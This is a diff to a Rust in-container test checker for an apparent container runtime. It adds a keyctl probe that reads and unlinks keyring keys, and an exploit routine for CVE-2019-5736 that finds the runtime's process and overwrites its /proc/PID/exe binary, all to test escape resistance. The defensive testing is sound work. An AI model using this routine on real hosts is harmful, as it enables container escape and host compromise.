@@ -1,11 +1,13 @@
 //! The in-container checker: run as a container's process, it reports what it sees as
 //! one JSON document on stdout, so tests check the container from inside.
 //!
-//! `lindocker-checker [--read PATH]... [--write PATH]... [--exit N]`, the UDP helpers
-//! `--udp-recv PORT` and `--udp-send ADDR:PORT TEXT`, or the raw SYN prober
-//! `--syn VIA ADDR:PORT`.
+//! `lindocker-checker [--read PATH]... [--write PATH]... [--keyctl DESC] [--exit N]`, the
+//! UDP helpers `--udp-recv PORT` and `--udp-send ADDR:PORT TEXT`, the raw SYN prober
+//! `--syn VIA ADDR:PORT`, the CVE-2019-5736 watcher `--exe-attack SECONDS PATTERN DIR`, or
+//! the TOCTOU racer `--swap-on-open WATCHED DIR TARGET`.
 //!
-//! Statically linked, no dependencies beyond serde_json and rustix: it runs in any rootfs.
+//! Statically linked, no dependencies beyond serde_json, rustix and lindocker-sys (for
+//! system calls std lacks, such as keyctl): it runs in any rootfs.
 
 use std::collections::BTreeMap;
 use std::fs;
@@ -248,12 +250,125 @@ fn syn_probe(args: &[String]) -> Option<i32> {
     Some(0)
 }
 
+/// `--keyctl DESC`: the user keyring's id, then search, read and unlink of the `user`
+/// key DESC in it; each step's result (`ok` or the errno) under `keyctl-STEP`.
+fn keyctl(desc: &str, out: &mut serde_json::Map<String, Value>) {
+    use lindocker_sys::keys;
+    let res = |r: std::io::Result<Value>| match r {
+        Ok(v) => v,
+        Err(e) => json!({ "error": e.to_string(), "errno": e.raw_os_error() }),
+    };
+    let name = std::ffi::CString::new(desc).expect("no NUL");
+    out.insert("keyctl-id".into(), res(keys::keyring_id(keys::USER_KEYRING).map(|k| json!(k))));
+    let found = keys::search_user_key(keys::USER_KEYRING, &name);
+    let key = found.as_ref().ok().copied();
+    out.insert("keyctl-search".into(), res(found.map(|k| json!(k))));
+    if let Some(key) = key {
+        out.insert(
+            "keyctl-read".into(),
+            res(keys::read_key(key).map(|p| json!(String::from_utf8_lossy(&p).into_owned()))),
+        );
+        out.insert("keyctl-unlink".into(), res(keys::unlink_key(key, keys::USER_KEYRING).map(|()| json!("ok"))));
+    }
+}
+
+/// `--exe-attack SECONDS PATTERN DIR`: CVE-2019-5736 as a container process tries it.
+/// Touches DIR/ready, then waits for a process whose command line contains PATTERN (the
+/// runtime's process for `exec PATTERN`, or the runtime's binary that a `#!/proc/self/exe`
+/// script at PATTERN made it load), opens its /proc/PID/exe (O_PATH: granted as soon as
+/// the process is dumpable), touches DIR/found, and then keeps reopening that file for
+/// writing while it is busy (ETXTBSY: the process still runs it); if an open succeeds, it
+/// writes over the start of the file. Prints what each step got, as JSON.
+fn exe_attack(args: &[String]) -> Option<i32> {
+    use std::os::fd::AsRawFd;
+    use std::os::unix::fs::{FileExt, OpenOptionsExt};
+    use std::time::{Duration, Instant};
+    let [mode, secs, pattern, dir] = args else { return None };
+    if mode != "--exe-attack" {
+        return None;
+    }
+    let deadline = Instant::now() + Duration::from_secs(secs.parse().ok()?);
+    let me = std::process::id().to_string();
+    let err = |e: std::io::Error| json!({ "error": e.to_string(), "errno": e.raw_os_error() });
+    let mut report = serde_json::Map::new();
+    fs::write(format!("{dir}/ready"), b"").ok()?;
+    let mut exe: Option<fs::File> = None;
+    'search: while Instant::now() < deadline {
+        for entry in fs::read_dir("/proc").ok()?.flatten() {
+            let pid = entry.file_name().to_string_lossy().into_owned();
+            if pid == me || !pid.bytes().all(|b| b.is_ascii_digit()) {
+                continue;
+            }
+            let cmdline = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+            if !cmdline.split(|&b| b == 0).any(|a| a == pattern.as_bytes()) {
+                continue;
+            }
+            // Found: spin until its exe opens (it is non-dumpable until it execs) or
+            // it is gone.
+            let path = format!("/proc/{pid}/exe");
+            loop {
+                match fs::OpenOptions::new().read(true).custom_flags(libc_o_path()).open(&path) {
+                    Ok(f) => {
+                        report.insert("pid".into(), json!(pid));
+                        report.insert("exe".into(), json!(fs::read_link(&path).ok()));
+                        report.insert("cmdline".into(), json!(String::from_utf8_lossy(&cmdline)));
+                        exe = Some(f);
+                        break 'search;
+                    }
+                    Err(_) if Instant::now() > deadline => break 'search,
+                    Err(_) if !std::path::Path::new(&format!("/proc/{pid}")).exists() => break,
+                    Err(_) => {}
+                }
+            }
+        }
+    }
+    let Some(exe) = exe else {
+        report.insert("open-path".into(), json!("nothing found"));
+        println!("{}", Value::Object(report));
+        return Some(1);
+    };
+    report.insert("open-path".into(), json!("ok"));
+    let _ = fs::write(format!("{dir}/found"), b"");
+    let reopen = format!("/proc/self/fd/{}", exe.as_raw_fd());
+    let mut busy = 0u64;
+    let opened = loop {
+        match fs::OpenOptions::new().write(true).open(&reopen) {
+            Err(e) if e.raw_os_error() == Some(26) && Instant::now() < deadline => {
+                busy += 1;
+                std::thread::sleep(Duration::from_millis(1));
+            }
+            other => break other,
+        }
+    };
+    report.insert("busy".into(), json!(busy));
+    match opened {
+        Ok(f) => {
+            report.insert("open-write".into(), json!("ok"));
+            let wrote = f.write_at(b"#!/bin/sh\necho pwned\n", 0);
+            report.insert("write".into(), wrote.map(|_| json!("ok")).unwrap_or_else(err));
+        }
+        Err(e) => {
+            report.insert("open-write".into(), err(e));
+        }
+    }
+    println!("{}", Value::Object(report));
+    Some(0)
+}
+
+/// `O_PATH`: the checker has no libc crate.
+fn libc_o_path() -> i32 {
+    0o10000000
+}
+
 fn main() {
     let args: Vec<String> = std::env::args().skip(1).collect();
     if let Some(code) = udp(&args).or_else(|| syn_probe(&args)) {
         std::process::exit(code);
     }
     if let Some(code) = swap_on_open(&args) {
+        std::process::exit(code);
+    }
+    if let Some(code) = exe_attack(&args) {
         std::process::exit(code);
     }
     let mut reads = serde_json::Map::new();
@@ -301,6 +416,12 @@ fn main() {
                         Err(e) => json!({ "error": e.to_string(), "errno": e.raw_os_error() }),
                     },
                 );
+            }
+            "--keyctl" => {
+                // Reach for the user keyring and a key named DESC in it, the way a
+                // container found and unlinked a key of the host's root.
+                let desc = it.next().expect("--keyctl DESC");
+                keyctl(desc, &mut writes);
             }
             "--exit" => exit = it.next().and_then(|n| n.parse().ok()).unwrap_or(0),
             other => panic!("unknown argument {other}"),
